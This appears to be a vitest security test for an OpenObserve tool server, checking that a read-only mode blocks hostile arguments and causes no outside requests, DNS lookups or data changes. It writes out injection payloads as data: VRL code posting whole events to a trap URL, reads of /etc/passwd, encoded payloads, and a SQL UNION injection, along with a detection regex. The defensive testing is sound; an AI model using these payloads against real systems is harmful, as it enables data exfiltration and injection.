import dns from 'node:dns';
import { createServer, type IncomingHttpHeaders, request as sendOn, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { INPUT_SCHEMAS } from '../../src/generated/schemas.ts';
import { TOOLS } from '../../src/generated/tools.ts';
import type { JsonSchema, ToolRow } from '../../src/contract/tool.ts';
import { createSample, type Sample } from '../../src/sample/server.ts';
import type { App } from '../../src/server/app.ts';
import { hostileArguments, randomFrom } from '../helpers/hostile.ts';
import { appAt, runTool } from '../helpers/run-tool.ts';

const SETS = 20;
const SEED = Number(process.env.HOSTILE_SEED ?? 20_261_130);
const REACHES =
  /\b(http_request|dns_lookup|reverse_dns|get_hostname|get_env_var|validate_json_schema|fetch)\b/;

interface Sent {
  readonly method: string;
  readonly path: string;
  readonly body: string;
}

let sample: Sample;
let app: App;
let trap: Server;
let recorder: Server;
const trapped: string[] = [];
const sent: Sent[] = [];
const lookedUp: string[] = [];

const listen = async (server: Server): Promise<string> => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
};

/** Passes everything on to the sample, and remembers what came. */
function recordingProxy(target: string): Server {
  return createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const body = Buffer.concat(chunks);
      const { method = '', url: path = '' } = request;
      sent.push({ method, path, body: body.toString() });
      const headers: IncomingHttpHeaders = { ...request.headers, host: new URL(target).host };
      sendOn(target, { method, path, headers }, (answer) => {
        response.writeHead(answer.statusCode ?? 0, answer.headers);
        answer.pipe(response);
      })
        .on('error', () => response.destroy())
        .end(body);
    });
  });
}

beforeAll(async () => {
  sample = await createSample({
    dataDir: new URL('../../fixtures/sample/', import.meta.url),
    shiftToNow: false,
    withObjects: true,
  });
  trap = createServer((request, response) => {
    trapped.push(`${request.method} ${request.url}`);
    response.end('INTERNAL-ANSWER');
  });
  recorder = recordingProxy(sample.url);
  const { email, token } = sample.credentials;
  app = await appAt(await listen(recorder), {
    API_KEY: `${email}:${token}`,
    O2_READ_ONLY: 'true',
    O2_CONFIRM: 'never',
    O2_TIMEOUT: '5s',
  });
  const lookup = dns.lookup;
  vi.spyOn(dns, 'lookup').mockImplementation(((host: string, ...rest: unknown[]) => {
    lookedUp.push(host);
    return (lookup as (...all: unknown[]) => void)(host, ...rest);
  }) as typeof dns.lookup);
});
afterAll(async () => {
  vi.restoreAllMocks();
  await app.close();
  for (const server of [trap, recorder]) {
    server.closeAllConnections();
    server.close();
  }
  await sample.close();
});

/** All that the sample keeps, as its own lists and streams tell it. */
async function stateOf(): Promise<Record<string, unknown>> {
  const { email, token } = sample.credentials;
  const headers = { authorization: `Basic ${btoa(`${email}:${token}`)}` };
  const get = async (path: string) => {
    const text = await (await fetch(sample.url + path, { headers })).text();
    return [path, text.replaceAll(/"(?:trace_id|timestamp)":"?\w+"?/g, '')];
  };
  const lists = TOOLS.filter(
    ({ method, path, edition }) =>
      method === 'GET' && edition !== 'enterprise' && /^[^{]*(\{org_id\}[^{]*)?$/.test(path),
  ).map(({ path }) => path.replace('{org_id}', 'default'));
  const folders = ['dashboards', 'alerts', 'reports'].map((type) => `/api/v2/default/folders/${type}`);
  const inFolder = [
    '/api/default/dashboards?folder=7500000000000000001',
    '/api/default/streams?fetchSchema=true',
  ];
  return Object.fromEntries(await Promise.all([...lists, ...folders, ...inFolder].map(get)));
}

const exampleOf = ({ name }: ToolRow) =>
  ((INPUT_SCHEMAS[name]?.examples ?? []) as Record<string, unknown>[])[0] ?? {};

/** What a caller would send who wants out: code, addresses and scripts, in every argument that takes a text, and beside. */
function reaching(row: ToolRow, url: string, variant: number): Record<string, unknown> {
  const host = new URL(url).host;
  const code = [
    `.x = http_request!("${url}/vrl", method: "post", body: encode_json(.))\n.`,
    `#ResultArray# .x = dns_lookup!("trap.example")`,
    Buffer.from(`.x = reverse_dns!("127.0.0.1")\n.x = get_hostname!()`).toString('base64url'),
    `.x = validate_json_schema!("{}", "/etc/passwd", false)`,
    `function row() { return fetch("${url}/js") }`,
  ];
  const texts = [
    ...code,
    `${url}/plain`,
    `//${host}/x`,
    `data' UNION SELECT * FROM read_csv('${url}/sql') --`,
  ];
  const text = texts[variant % texts.length] as string;
  const properties = (INPUT_SCHEMAS[row.name]?.properties ?? {}) as Record<string, JsonSchema>;
  const own = Object.entries(properties).filter(([, { type }]) => [type].flat().includes('string'));
  const chosen = variant < texts.length ? own : own.filter((_, index) => index % 3 === variant % 3);
  const added = { query_fn: text, vrl_function: text, function: text, action_id: text, url, callback: url };
  return {
    ...exampleOf(row),
    ...(variant % 2 === 0 ? Object.fromEntries(chosen.map(([name]) => [name, text])) : {}),
    ...(variant === 6 ? { request_body: added } : {}),
    ...Object.fromEntries(Object.entries(added).filter(([name]) => name in row.places || variant === 5)),
    ...('sql' in row.places && variant % 2 === 1 ? { sql: 'SELECT * FROM "payment_service" LIMIT 1' } : {}),
  };
}

/** Texts of a body that OpenObserve would run, as they are and decoded. */
function codeIn(value: unknown): string[] {
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, item]) => {
    if (typeof item !== 'string' || !/fn|func|vrl|action/i.test(key)) return codeIn(item);
    return [item, Buffer.from(item, 'base64').toString(), Buffer.from(item, 'base64url').toString()];
  });
}

const READS = TOOLS.filter(({ access }) => access === 'read').map(({ method, path }) => ({
  method,
  pattern: new RegExp(`^${path.replaceAll(/[.[\]()]/g, '\\$&').replaceAll(/\{[^}]+\}/g, '[^/?]+')}(\\?|$)`),
}));

/** Why a request is none that a read sends; null when it is. */
function offence({ method, path, body }: Sent): string | null {
  const isRead =
    (method === 'GET' && /^\/(config|healthz)$/.test(path)) ||
    READS.some((read) => read.method === method && read.pattern.test(path));
  if (!isRead) return `${method} ${path}`;
  let parsed: unknown = null;
  try {
    parsed = JSON.parse(body);
  } catch {}
  const code = codeIn(parsed).find((text) => REACHES.test(text));
  const scripts = /"action_id":"/.test(body);
  return code === undefined && !scripts ? null : `${method} ${path} runs ${code ?? body}`;
}

it(`all ${TOOLS.length} tools, ${SETS} hostile argument sets each: a read-only view reaches nothing and changes nothing`, async () => {
  const url = await listen(trap);
  const random = randomFrom(SEED);
  const before = await stateOf();
  expect(Object.keys(before).length).toBeGreaterThan(20);
  const counts = { answered: 0, refused: 0, code: 0, out: 0 };
  for (const row of TOOLS) {
    for (let set = 0; set < SETS; set++) {
      const args = set < 10 ? reaching(row, url, set) : hostileArguments(row, exampleOf(row), random);
      const first = sent.length;
      const { error } = await runTool(app, row.name, args);
      if (error === null) counts.answered += 1;
      else if (error.code === 'unknown_tool') counts.out += 1;
      else counts[error.code === 'code_not_allowed' ? 'code' : 'refused'] += 1;
      if (row.access !== 'read') expect([row.name, error?.code]).toEqual([row.name, 'unknown_tool']);
      const found = sent
        .slice(first)
        .map(offence)
        .find((each) => each !== null);
      if (found !== undefined) expect.fail(`set ${set} of seed ${SEED}, ${row.name}: ${found}`);
    }
  }
  process.stdout.write(
    `${TOOLS.length * SETS} calls of a read-only view: ${counts.answered} answered, ${counts.refused} refused, ${counts.code} for their code, ${counts.out} not offered, ${sent.length} requests\n`,
  );
  expect(counts.answered).toBeGreaterThan(200);
  expect(counts.code).toBeGreaterThan(10);
  expect(trapped).toEqual([]);
  expect(lookedUp.filter((host) => host !== '127.0.0.1')).toEqual([]);
  expect(await stateOf()).toEqual(before);
}, 300_000);
